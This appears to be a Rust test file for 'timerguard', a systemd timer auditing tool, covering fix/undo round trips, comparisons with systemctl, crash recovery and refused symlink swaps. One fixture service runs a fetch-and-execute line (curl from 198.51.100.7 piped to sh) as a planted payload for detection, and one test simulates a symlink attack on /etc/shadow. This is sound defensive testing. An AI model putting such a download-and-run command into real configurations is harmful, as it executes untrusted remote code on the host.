//! `fix` and `undo`: round trips compared tree-for-tree, differential tests against
//! `systemctl --root disable/mask` (S17, S19), crash injection, refused swaps, the lock.

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::process::Command;

use serde_json::Value;
use timerguard::finding::{Finding, Fix, Severity};
use timerguard::remedy::{self, PlanOptions, fsops::RootFs};

use crate::common::*;

/// (path, type, mode, uid, gid, link target, content hash) of every entry, minus
/// timerguard's own state directory (its journal must outlive the run).
fn json(fx: &Fx, args: &[&str]) -> (i32, Value) {
    let o = fx.cli(args);
    (o.status.code().unwrap_or(-1), serde_json::from_slice(&o.stdout).unwrap_or(Value::Null))
}

/// One case of every fixable finding.
fn everything() -> Fx {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nsvc:x:990:990::/var/lib/svc:/usr/sbin/nologin\n")
        .file("/etc/group", "root:x:0:\nalice:x:1000:\n")
        .dir("/home/alice")
        // M1022: modes.
        .file("/etc/systemd/system/report.timer", &timer("daily"))
        .mode("/etc/systemd/system/report.timer", 0o666)
        .file("/etc/systemd/system/report.service", &service("/usr/bin/true"))
        .dir("/etc/systemd/system/timers.target.wants")
        .mode("/etc/systemd/system/timers.target.wants", 0o777)
        .dir("/var/lib/systemd/timers")
        .mode("/var/lib/systemd/timers", 0o1777)
        // M1018: linger, a user timer, a global user unit, a generator.
        .file("/var/lib/systemd/linger/svc", "")
        .file("/home/alice/.config/systemd/user/sync.timer", &timer("hourly"))
        .file("/home/alice/.config/systemd/user/sync.service", &service("/usr/bin/true"))
        .link("/home/alice/.config/systemd/user/timers.target.wants/sync.timer", "../sync.timer")
        .file("/usr/local/lib/systemd/user/beacon.timer", &timer("hourly"))
        .file("/etc/systemd/system-generators/persist", "#!/bin/sh\n")
        // M1026: payload (mask), drop-in hijack (quarantine), unapproved root timer (disable).
        .file("/etc/systemd/system/upd.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
        .file("/etc/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n")
        .link("/etc/systemd/system/timers.target.wants/upd.timer", "/etc/systemd/system/upd.timer")
        .file("/usr/lib/systemd/system/cron.service", &service("/usr/sbin/cron"))
        .file("/etc/systemd/system/cron.service.d/override.conf", "[Service]\nExecStartPre=/usr/bin/true\n")
        .file("/usr/lib/systemd/system/extra.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\nAlias=ex.timer\n")
        .file("/usr/lib/systemd/system/extra.service", &service("/usr/bin/true"))
        .link("/etc/systemd/system/timers.target.wants/extra.timer", "/usr/lib/systemd/system/extra.timer")
        .link("/etc/systemd/system/ex.timer", "/usr/lib/systemd/system/extra.timer")
        .file("/etc/tg.yaml", "params:\n  TG301: { approved: [report.timer] }\n");
    fx
}

#[test]
fn round_trip_fix_check_undo_restores_the_tree() {
    let fx = everything();
    let cfg = fx.host_path("/etc/tg.yaml").display().to_string();
    let before = listing(fx.path());
    let (code, checked) = json(&fx, &["--config", &cfg, "check", "--format", "json", "--fail-on", "info"]);
    assert_eq!(code, 1);
    let fixable: Vec<String> = checked["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| !f["fix"].is_null())
        .map(|f| format!("{}/{}", f["policy"].as_str().unwrap(), f["subject"].as_str().unwrap()))
        .collect();
    for want in ["TG102/", "TG103/", "TG105/", "TG201/", "TG202/", "TG205/", "TG301/", "TG303/", "TG304/"] {
        assert!(fixable.iter().any(|f| f.starts_with(want)), "no fixable {want} in {fixable:?}");
    }
    // Dry run: exit 1 (would change), nothing written.
    let (code, plan) = json(&fx, &["--config", &cfg, "fix", "--unsafe", "--format", "json"]);
    assert_eq!(code, 1);
    assert_eq!(plan["changes"], true);
    assert_eq!(before, listing(fx.path()), "a dry run changes nothing");
    let (code, out) = json(&fx, &["--config", &cfg, "fix", "--unsafe", "--apply", "--format", "json"]);
    assert_eq!(code, 0, "{out}");
    assert!(out["failed"].as_array().unwrap().is_empty());
    let (_, after) = json(&fx, &["--config", &cfg, "check", "--format", "json", "--fail-on", "info"]);
    let left: Vec<&Value> = after["findings"].as_array().unwrap().iter().filter(|f| !f["fix"].is_null()).collect();
    assert!(left.is_empty(), "findings with a fix remain after fix --apply --unsafe: {left:?}");
    let (code, plan) = json(&fx, &["--config", &cfg, "fix", "--unsafe", "--format", "json"]);
    assert_eq!((code, &plan["changes"]), (0, &Value::Bool(false)), "a second run plans nothing");
    assert!(
        fx.host_path("/etc/systemd/system-preset/00-timerguard.preset").exists(),
        "S20: disable adds a preset line"
    );
    let o = fx.cli(&["undo"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(before, listing(fx.path()), "undo restores every path, mode, owner, link and content");
}

fn finding(fix: Fix) -> Finding {
    Finding {
        policy: "TEST001".into(),
        name: "test".into(),
        rule: "r".into(),
        severity: Severity::High,
        message: String::new(),
        mitigations: vec![],
        scope: Some("system".into()),
        subject: "s".into(),
        path: None,
        line: None,
        fix: Some(fix),
        fix_note: None,
        waiver: None,
        baselined: false,
        host: None,
    }
}

/// The plan of one fix (unsafe fixes allowed), and the root it is for.
fn plan_fix(fx: &Fx, fix: Fix) -> (remedy::Plan, RootFs) {
    let host = fx.collect();
    let fs = RootFs::open(fx.path()).unwrap();
    let opts = PlanOptions { unsafe_all: true, unsafe_policies: vec![], runtime: false, live: false };
    (remedy::plan(&[finding(fix)], &host, &fs, &opts), fs)
}

fn apply_fix(fx: &Fx, fix: Fix) -> remedy::ApplyOutcome {
    let (plan, fs) = plan_fix(fx, fix);
    remedy::apply(&fs, &plan).unwrap()
}

/// A root where backup.timer was enabled by systemctl (absolute links, an alias), plus
/// a hand-made relative link and a runtime link.
fn enabled_root() -> Fx {
    let fx = Fx::new();
    fx.debian_layout()
        .dir("/dev")
        .file("/dev/null", "")
        .file(
            "/usr/lib/systemd/system/backup.timer",
            "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\nAlias=bk.timer\n",
        )
        .file("/usr/lib/systemd/system/backup.service", &service("/usr/bin/true"))
        .file("/usr/lib/systemd/system/other.timer", &timer("daily"))
        .link(
            "/etc/systemd/system/multi-user.target.wants/backup.timer",
            "../../../../usr/lib/systemd/system/backup.timer",
        )
        .link("/etc/systemd/system/multi-user.target.wants/other.timer", "/usr/lib/systemd/system/other.timer")
        .link("/run/systemd/system/timers.target.wants/backup.timer", "/usr/lib/systemd/system/backup.timer");
    fx.systemctl(&["enable", "backup.timer"]);
    fx
}

fn copy(fx: &Fx) -> Fx {
    let c = Fx::new();
    let st = Command::new("cp")
        .args(["-a", &format!("{}/.", fx.path().display()), c.path().to_str().unwrap()])
        .status()
        .unwrap();
    assert!(st.success());
    c
}

fn unit_tree(fx: &Fx) -> BTreeMap<String, String> {
    listing(fx.path())
        .into_iter()
        .filter(|(p, _)| p == "etc/systemd/system" || p.starts_with("etc/systemd/system/") || p.starts_with("run/"))
        .collect()
}

#[test]
fn s17_disable_matches_systemctl() {
    if !have("systemctl") {
        return;
    }
    let ours = enabled_root();
    assert!(ours.host_path("/etc/systemd/system/bk.timer").is_symlink(), "systemctl enable created the alias");
    let theirs = copy(&ours);
    theirs.systemctl(&["disable", "backup.timer"]);
    let out = apply_fix(&ours, Fix::DisableTimer { scope: "system".into(), unit: "backup.timer".into() });
    assert!(out.failed.is_empty(), "{:?}", out.failed);
    assert_eq!(unit_tree(&ours), unit_tree(&theirs), "same links removed, same empty dirs removed, /run untouched");
    assert!(ours.host_path("/run/systemd/system/timers.target.wants/backup.timer").is_symlink());
}

#[test]
fn s19_mask_matches_systemctl() {
    if !have("systemctl") {
        return;
    }
    let ours = enabled_root();
    let theirs = copy(&ours);
    theirs.systemctl(&["mask", "other.timer"]);
    let out = apply_fix(&ours, Fix::MaskUnit { scope: "system".into(), unit: "other.timer".into() });
    assert!(out.failed.is_empty(), "{:?}", out.failed);
    assert_eq!(unit_tree(&ours), unit_tree(&theirs));
    let h = ours.collect();
    assert_eq!(timer_of(&system(&h), "other.timer").activation.state, "masked");
}

#[test]
fn s19_mask_quarantines_a_local_file_in_the_way() {
    let fx = Fx::new();
    fx.debian_layout().dir("/var/lib").file("/etc/systemd/system/local.timer", &timer("daily"));
    let before = listing(fx.path());
    let out = apply_fix(&fx, Fix::MaskUnit { scope: "system".into(), unit: "local.timer".into() });
    assert!(out.failed.is_empty(), "{:?}", out.failed);
    assert_eq!(
        std::fs::read_link(fx.host_path("/etc/systemd/system/local.timer")).unwrap().to_str(),
        Some("/dev/null")
    );
    let q = fx.host_path(&format!("/var/lib/timerguard/quarantine/{}/etc/systemd/system/local.timer", out.run));
    assert!(q.is_file(), "nothing is lost: {q:?}");
    assert!(fx.cli(&["undo"]).status.success());
    assert_eq!(before, listing(fx.path()));
}

#[test]
fn crash_mid_run_then_undo_restores() {
    let fx = everything();
    let cfg = fx.host_path("/etc/tg.yaml").display().to_string();
    let before = listing(fx.path());
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .env("TIMERGUARD_KILL_AT", "3:done")
        .args(["--root", fx.path().to_str().unwrap(), "--config", &cfg, "fix", "--unsafe", "--apply"])
        .output()
        .unwrap();
    assert!(!o.status.success() && o.status.code().is_none(), "the process was killed mid-run");
    assert_ne!(before, listing(fx.path()), "three steps were made");
    let u = fx.cli(&["undo"]);
    assert!(u.status.success(), "{}", String::from_utf8_lossy(&u.stdout));
    assert_eq!(before, listing(fx.path()));
}

#[test]
fn a_symlink_swapped_in_after_collection_is_refused() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/systemd/system/x.timer", &timer("daily"))
        .mode("/etc/systemd/system/x.timer", 0o666)
        .file("/etc/shadow", "secret\n")
        .mode("/etc/shadow", 0o640);
    let host = fx.collect();
    let fs = RootFs::open(fx.path()).unwrap();
    let opts = PlanOptions { unsafe_all: false, unsafe_policies: vec![], runtime: false, live: false };
    let plan = remedy::plan(
        &[finding(Fix::Chmod { path: "/etc/systemd/system/x.timer".into(), mode: timerguard::model::Mode(0o7755) })],
        &host,
        &fs,
        &opts,
    );
    assert_eq!(plan.actions[0].steps.len(), 1);
    // An attacker swaps the unit for a link to /etc/shadow between plan and apply.
    std::fs::remove_file(fx.host_path("/etc/systemd/system/x.timer")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", fx.host_path("/etc/systemd/system/x.timer")).unwrap();
    let out = remedy::apply(&fs, &plan).unwrap();
    assert_eq!(out.failed.len(), 1);
    assert!(out.failed[0].contains("changed since it was collected"), "{:?}", out.failed);
    assert_eq!(
        std::fs::metadata(fx.host_path("/etc/shadow")).unwrap().mode() & 0o7777,
        0o640,
        "the shadow file is untouched"
    );
    // And a chmod is never planned through a link in the first place.
    let host = fx.collect();
    let plan = remedy::plan(
        &[finding(Fix::Chmod { path: "/etc/systemd/system/x.timer".into(), mode: timerguard::model::Mode(0o644) })],
        &host,
        &fs,
        &opts,
    );
    assert!(plan.actions[0].refused.as_deref().unwrap().contains("never through a link"));
}

#[test]
fn a_second_run_waits_for_the_lock() {
    let fx = Fx::new();
    fx.debian_layout().file("/etc/systemd/system/x.timer", &timer("daily")).mode("/etc/systemd/system/x.timer", 0o666);
    let fs = RootFs::open(fx.path()).unwrap();
    fs.mkdir_p("/var/lib/timerguard").unwrap();
    let _held = fs.lock("/var/lib/timerguard/lock").unwrap();
    let o = fx.cli(&["fix", "--apply"]);
    assert_eq!(o.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&o.stderr).contains("another timerguard run holds"));
    assert_eq!(std::fs::metadata(fx.host_path("/etc/systemd/system/x.timer")).unwrap().mode() & 0o777, 0o666);
}

#[test]
fn undo_refuses_a_path_changed_after_the_run_and_undoes_the_rest() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/systemd/system/a.timer", &timer("daily"))
        .mode("/etc/systemd/system/a.timer", 0o666)
        .file("/etc/systemd/system/b.timer", &timer("daily"))
        .mode("/etc/systemd/system/b.timer", 0o666);
    let o = fx.cli(&["fix", "--apply"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    // Someone changes a.timer after the run.
    std::fs::set_permissions(
        fx.host_path("/etc/systemd/system/a.timer"),
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let u = fx.cli(&["undo"]);
    assert_eq!(u.status.code(), Some(4));
    let out = String::from_utf8_lossy(&u.stdout);
    assert!(out.contains("FAILED: /etc/systemd/system/a.timer: refused, it changed after the run"), "{out}");
    let mode = |p: &str| std::fs::metadata(fx.host_path(p)).unwrap().mode() & 0o777;
    assert_eq!(mode("/etc/systemd/system/a.timer"), 0o600, "left as the admin set it");
    assert_eq!(mode("/etc/systemd/system/b.timer"), 0o666, "the other step was undone");
}

#[test]
fn undo_with_nothing_to_undo_and_bad_report_arguments_are_errors() {
    let fx = Fx::new();
    fx.debian_layout().file("/etc/systemd/system/x.timer", &timer("daily"));
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(0), "nothing to undo is not an error");
    assert!(String::from_utf8_lossy(&o.stdout).contains("nothing to undo"), "{}", String::from_utf8_lossy(&o.stdout));
    fx.mode("/etc/systemd/system/x.timer", 0o666);
    assert!(fx.cli(&["fix", "--apply"]).status.success(), "a real run creates the journal");
    let o = fx.cli(&["undo", "19990101T000000Z-1"]);
    assert_eq!(o.status.code(), Some(4), "an unknown run is an error");
    assert!(String::from_utf8_lossy(&o.stderr).contains("no journal for run 19990101T000000Z-1"));
    for (arg, want) in
        [("xml=x.xml", "unknown format \"xml\""), ("junit", "want FORMAT=PATH"), ("junit=", "empty path")]
    {
        let o = fx.cli(&["check", "--report", arg]);
        assert_eq!(o.status.code(), Some(2), "{arg}");
        assert!(String::from_utf8_lossy(&o.stderr).contains(want), "{arg}: {}", String::from_utf8_lossy(&o.stderr));
    }
    let o = fx.cli(&["--config", "/nonexistent/tg.yaml", "check"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/tg.yaml: cannot read"));
}

/// A shared timer (enabled in /etc/systemd/user) whose service alice overrides in her own
/// directory runs her code in her manager. `disable` in her scope cannot stop it (the
/// link is everyone's): the fix is refused and says why, and TG202 masks it for her
/// alone — after the fix her scope has it masked and the shared link is still there.
#[test]
fn s3_a_timer_started_from_shared_links_is_masked_for_the_user_not_disabled() {
    let fx = Fx::new();
    fx.debian_layout()
        .dir("/dev")
        .file("/dev/null", "")
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
        .file("/etc/group", "root:x:0:\nalice:x:1000:\n")
        .file("/etc/systemd/user/backup.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n")
        .file("/usr/lib/systemd/user/backup.service", &service("/usr/bin/true"))
        .file("/home/alice/.config/systemd/user/backup.service", &service("/home/alice/payload"))
        .link("/etc/systemd/user/timers.target.wants/backup.timer", "../backup.timer")
        .file("/var/lib/systemd/linger/alice", "");
    let disable = Fix::DisableTimer { scope: "user:alice".into(), unit: "backup.timer".into() };
    let (plan, _) = plan_fix(&fx, disable);
    let refused = plan.actions[0].refused.as_deref().unwrap_or("");
    assert!(
        refused.contains("/etc/systemd/user/timers.target.wants/backup.timer") && refused.contains("mask"),
        "{refused}"
    );
    assert!(plan.actions[0].steps.is_empty());

    let (_, report) = json(&fx, &["check", "--format", "json", "--select", "TG202"]);
    let f = &report["findings"][0];
    assert_eq!((f["scope"].as_str(), f["subject"].as_str()), (Some("user:alice"), Some("backup.timer")), "{report}");
    assert_eq!(f["fix"]["action"], "mask-unit", "{f}");
    let o = fx.cli(&["fix", "--unsafe", "--apply", "--select", "TG202"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        std::fs::read_link(fx.host_path("/home/alice/.config/systemd/user/backup.timer")).unwrap().to_str(),
        Some("/dev/null")
    );
    assert!(fx.host_path("/etc/systemd/user/timers.target.wants/backup.timer").is_symlink(), "the shared link stays");
    let h = fx.collect();
    let mine = h.scopes.iter().find(|s| s.label() == "user:alice").unwrap();
    assert_eq!(timer_of(mine, "backup.timer").activation.state, "masked");
}

/// A mask in a user scope whose unit directory does not exist is refused, saying why:
/// making it would leave root's directories in her home. Nothing is planned.
#[test]
fn s19_a_user_mask_never_makes_directories_in_a_home() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
        .file("/etc/systemd/user/backup.timer", &timer("daily"))
        .dir("/home/alice");
    let mask = Fix::MaskUnit { scope: "user:alice".into(), unit: "backup.timer".into() };
    let (plan, _) = plan_fix(&fx, mask);
    let refused = plan.actions[0].refused.as_deref().unwrap_or("");
    assert!(refused.contains("/home/alice/.config/systemd/user does not exist"), "{refused}");
    assert!(plan.actions[0].steps.is_empty(), "{:?}", plan.actions[0].steps);
}

/// S33 in a user manager: a shared timer's `Unit=job@%u.service` is `job@alice.service`
/// for alice (her row says so); the shared row keeps the default and warns why.
#[test]
fn s33_a_shared_timer_naming_each_user_triggers_hers() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
        .file(
            "/etc/systemd/user/c.timer",
            "[Timer]\nOnCalendar=daily\nUnit=job@%u.service\n[Install]\nWantedBy=timers.target\n",
        )
        .file("/usr/lib/systemd/user/job@.service", &service("/usr/bin/true"))
        .link("/etc/systemd/user/timers.target.wants/c.timer", "../c.timer")
        .file("/home/alice/.config/systemd/user/other.service", &service("/usr/bin/true"));
    let o = fx.cli(&["list", "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let row = |scope: &str| v["timers"].as_array().unwrap().iter().find(|r| r["scope"] == scope).cloned();
    assert_eq!(row("user:alice").unwrap()["service"], "job@alice.service", "{v}");
    assert_eq!(row("global").unwrap()["service"], "c.service", "{v}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("c.timer:3: Unit=job@%u.service: names a unit after each user"), "{err}");
}
